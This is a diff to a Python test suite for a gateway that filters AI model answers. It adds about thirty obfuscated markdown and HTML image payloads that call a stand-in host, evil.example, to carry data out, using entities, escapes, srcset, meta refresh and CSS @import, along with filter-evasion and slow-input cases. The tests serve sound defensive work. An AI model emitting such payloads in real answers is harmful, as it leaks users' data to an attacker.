@@ -3,11 +3,13 @@
 from __future__ import annotations
 
 import itertools
+import time
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from gateway.domain.answer_links import LinkKind
 from gateway.domain.answer_rules import (
     AnswerAction,
     AnswerRule,
@@ -15,7 +17,6 @@ from gateway.domain.answer_rules import (
     FindingRule,
     Guard,
     Judged,
-    LinkKind,
     LinkRule,
     judge,
 )
@@ -158,6 +159,89 @@ def test_what_a_client_would_fetch_is_neutralised(text: str) -> None:
     assert "base64" not in shown(text, result)
 
 
+HIDDEN = [
+    "![a[b]c](https://evil.example/p?d=1)",
+    "![" + "a" * 500 + "](https://evil.example/p?d=1)",
+    "![a [b](https://docs.example.com) c](https://evil.example/p?d=1)",
+    "![a `]` b](https://evil.example/p?d=1)",
+    "![a `[` b](https://evil.example/p?d=1)",
+    "![a `](x)` b](https://evil.example/p?d=1)",
+    "![a `][` b](https://evil.example/p?d=1)",
+    "![a](" + " " * 40 + "https://evil.example/p?d=1)",
+    "![a](https&#58;//evil.example/p?d=1)",
+    "![a](https&colon;//evil.example/p?d=1)",
+    r"![a](https\://evil.example/p?d=1)",
+    r"![a](\\evil.example/p?d=1)",
+    r"![a](/\evil.example/p?d=1)",
+    r"![a](https:\/\/evil.example\/p?d=1)",
+    r"![a](\u0068ttps://evil.example/p?d=1)",
+    r"!\u005ba\u005d(https:\/\/evil.example\/p?d=1)",
+    r'{"text":"{\"text\":\"![a](https:\\/\\/evil.example\\/p?d=1)\"}"}',
+    "> ![a][r]\n>\n> [r]: https://evil.example/p?d=1",
+    "- ![a][r]\n\n  - [r]: https://evil.example/p?d=1",
+    '<img alt=">" src="https://evil.example/p?d=1">',
+    '<img src="https://docs.example.com/y.png" srcset="https://evil.example/p?d=1 2x">',
+    '<img srcset="https://evil.example/p?d=1 1x, https://docs.example.com/y.png 2x">',
+    '<img src="ht\ntps://evil.example/p?d=1">',
+    '<img src="h&#116;tps://evil.example/p?d=1">',
+    "<img src = https://evil.example/p?d=1>",
+    '<input type=image src="https://evil.example/p?d=1">',
+    '<table background="https://evil.example/p?d=1">',
+    '<link rel=stylesheet href="https://evil.example/p?d=1">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/p?d=1">',
+    '<style>@import "https://evil.example/p?d=1";</style>',
+    r'{"html":"<img src=\"https://evil.example/p?d=1\">"}',
+]
+
+
+@pytest.mark.parametrize("text", HIDDEN)
+def test_what_a_client_reads_and_a_search_overlooks(text: str) -> None:
+    """Brackets in an image's words, escapes, entities, several attributes: whatever a client would resolve."""
+    result = judged(text, images("docs.example.com"))
+
+    assert {"img"} == result.rules
+    assert "evil.example" not in shown(text, result)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![a](https://docs.example.com/y.png) and [b](https://evil.example/)",
+        "![a][r] and [b](https://evil.example/)",
+        "[![a](https://docs.example.com/y.png)](https://evil.example/)",
+        "![a `b\n\n[c](https://evil.example/)",
+        '<img src="y.png"> <a href="https://evil.example/">x</a>',
+        'src = "https://evil.example/"',
+        "if a < b:  # https://evil.example/",
+        "![a](/y.png) ![b](y.png) ![c](#d)",
+    ],
+)
+def test_what_is_no_image_stays(text: str) -> None:
+    """Also beside one, in code, and within the application's own pages."""
+    assert () == judged(text, images("docs.example.com")).cuts
+
+
+@pytest.mark.parametrize("text", [r"see\nhttps://evil.example/", "www.evil.example/x", r"https:\/\/evil.example"])
+def test_links_without_brackets(text: str) -> None:
+    """As clients make them clickable, and as they stand in JSON."""
+    assert "evil.example" not in shown(text, judged(text, links()))
+
+
+def test_an_address_that_clients_read_differently_is_not_allowed() -> None:
+    """For some the host ends at a backslash, for others it is a user's name."""
+    assert judged(r"![x](https://docs.example.com\@evil.example/)", images("docs.example.com")).cuts
+
+
+@pytest.mark.parametrize("piece", ["![", "](", "[", "<img src=", "<a ", "\\", "&#58;", "`", "]: ", " src=x"])
+def test_searching_is_linear(piece: str) -> None:
+    """An answer may be made to hold a hundred thousand openings that nothing closes."""
+    text = piece * (400_000 // len(piece))
+    began = time.process_time()
+    judged(text, images(), links())
+
+    assert time.process_time() - began < 5
+
+
 @pytest.mark.parametrize(
     "text", ["see https://evil.example/?d=1", "[a](https://evil.example/?d=1)", "<https://evil.example/>"]
 )
@@ -186,7 +270,7 @@ def test_hosts_are_compared_whole(host: str, allowed: bool) -> None:
     assert allowed == (not judged(text, images("docs.example.com", "*.cdn.example.com")).cuts)
 
 
-@given(st.text(alphabet="![](<>:/.ahtps \n'\"", max_size=200))
+@given(st.text(alphabet="![](<>:/.ahtps \n'\"\\&#;5820`", max_size=200))
 def test_cuts_are_sorted_apart_and_inside(text: str) -> None:
     """Whatever a model writes."""
     cuts = judged(text, images(), links()).cuts
